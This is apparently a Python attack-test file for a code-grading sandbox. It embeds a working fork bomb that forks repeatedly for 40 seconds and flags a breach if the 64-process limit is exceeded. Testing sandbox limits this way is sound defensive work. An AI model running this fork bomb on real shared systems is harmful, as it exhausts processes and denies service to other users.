"""(e) A fork bomb: every process forks as fast as it can and spins, for 12 s of the attacker's cell, while
other learners are graded by the other worker (all learners run as the same uid, nobody). The number of
processes reached is reported: more than 64 breaks the promised limit."""

from tests.attacks._common import prelude

ASSIGNMENT = "regression"
GOAL = "Exhaust processes (and threads) for every sandbox running as nobody, and exceed the 64-process limit."
WITH_SOLUTION = True

CODE = prelude(ASSIGNMENT) + r'''
import time as _rt_time

_rt_r, _rt_w = _rt_os.pipe()
_rt_pid = _rt_os.fork()
if _rt_pid == 0:
    try:
        _rt_os.setsid()
        _rt_end = _rt_time.time() + 40
        while _rt_time.time() < _rt_end:  # the bomb
            try:
                _rt_os.fork()
            except OSError:
                pass
    finally:
        _rt_os._exit(0)
_rt_os.close(_rt_w)
_rt_peak = 0
_rt_end = _rt_time.time() + 12
while _rt_time.time() < _rt_end:
    try:
        _rt_n = sum(1 for p in _rt_os.listdir("/proc") if p.isdigit())
        _rt_peak = max(_rt_peak, _rt_n)
    except OSError:
        pass
    _rt_time.sleep(0.2)
_rt_note("peak processes visible:", _rt_peak)
if _rt_peak > 64 + 3:
    _rt_mark("BREACH", "processes", f"{_rt_peak} processes in one sandbox (limit 64)")
'''
